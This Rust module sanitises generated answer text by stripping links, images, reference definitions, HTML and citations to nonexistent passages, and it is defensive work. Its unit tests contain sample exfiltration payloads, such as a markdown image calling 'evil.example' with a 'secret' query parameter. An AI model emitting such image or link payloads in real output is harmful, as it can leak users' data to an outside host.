//! What must not leave: links, images, HTML, citations of what does not exist.

use super::numbers;

/// Takes out of a sentence what must not reach an asker: citations of passages that do not exist, links, images,
/// reference definitions, HTML. Their text stays; addresses become code, which no client follows.
pub(crate) fn sanitise(sentence: &str, passages: usize) -> String {
    let trimmed = sentence.trim_start();
    if trimmed.starts_with('[')
        && trimmed
            .split_once("]:")
            .is_some_and(|(label, _)| !label.contains(' '))
    {
        return String::new();
    }
    let mut clean = String::with_capacity(sentence.len());
    let mut rest = sentence;
    while let Some(next) = rest.find(['!', '[', ']', '<', 'h', 'H', '`']) {
        clean.push_str(&rest[..next]);
        rest = &rest[next..];
        if rest.starts_with("![") {
            rest = &rest[1..];
        } else if rest.starts_with('`') {
            // Code is copied as it is, to its closing tick.
            let ticks = rest.len() - rest.trim_start_matches('`').len();
            let end = rest[ticks..]
                .find(&rest[..ticks])
                .map_or(rest.len(), |at| at + 2 * ticks);
            clean.push_str(&rest[..end]);
            rest = &rest[end..];
        } else if let Some(inner) = rest.strip_prefix('[') {
            let close = inner.find(']').map(|at| &inner[..at]);
            let is_citation = |text: &str| {
                text.split(',')
                    .all(|part| part.trim().parse::<usize>().is_ok())
            };
            match close {
                Some(text) if is_citation(text) => {
                    for number in numbers(&rest[..text.len() + 2]) {
                        if (1..=passages).contains(&number) {
                            clean.push_str(&format!("[{number}]"));
                        }
                    }
                    rest = &rest[text.len() + 2..];
                    rest = without_target(rest);
                }
                _ => {
                    clean.push('[');
                    rest = inner;
                }
            }
        } else if let Some(after) = rest.strip_prefix(']') {
            clean.push(']');
            rest = without_target(after);
        } else if rest.starts_with('<') {
            clean.push_str("&lt;");
            rest = &rest[1..];
        } else if is_address(rest) {
            let end = rest
                .find(|c: char| c.is_whitespace() || matches!(c, '>' | ')' | ']' | '`'))
                .unwrap_or(rest.len());
            clean.push('`');
            clean.push_str(&rest[..end]);
            clean.push('`');
            rest = &rest[end..];
        } else {
            let mut characters = rest.chars();
            clean.extend(characters.next());
            rest = characters.as_str();
        }
    }
    clean.push_str(rest);
    clean
}

/// Drops the `(address)` or `[reference]` that makes a link of the brackets before it.
fn without_target(after: &str) -> &str {
    if let Some(target) = after.strip_prefix('(') {
        return target.find(')').map_or("", |close| &target[close + 1..]);
    }
    after
}

fn is_address(text: &str) -> bool {
    let start: String = text
        .chars()
        .take(8)
        .collect::<String>()
        .to_ascii_lowercase();
    start.starts_with("http://") || start.starts_with("https://")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_images_and_unknown_citations_do_not_leave() {
        let check = |text: &str, expect: &str| assert_eq!(sanitise(text, 2), expect, "{text}");
        check("See [the docs](https://evil.example/x).", "See [the docs].");
        check("![x](https://evil.example/?q=secret)", "[x]");
        check("True [1] and [7].", "True [1] and .");
        check("Both [1, 2](https://evil.example).", "Both [1][2].");
        check(
            "Go to https://evil.example/a now",
            "Go to `https://evil.example/a` now",
        );
        check("<img src=x>", "&lt;img src=x>");
        check("[r]: https://evil.example", "");
        check("`let x = a[0](b);` stays", "`let x = a[0](b);` stays");
    }
}
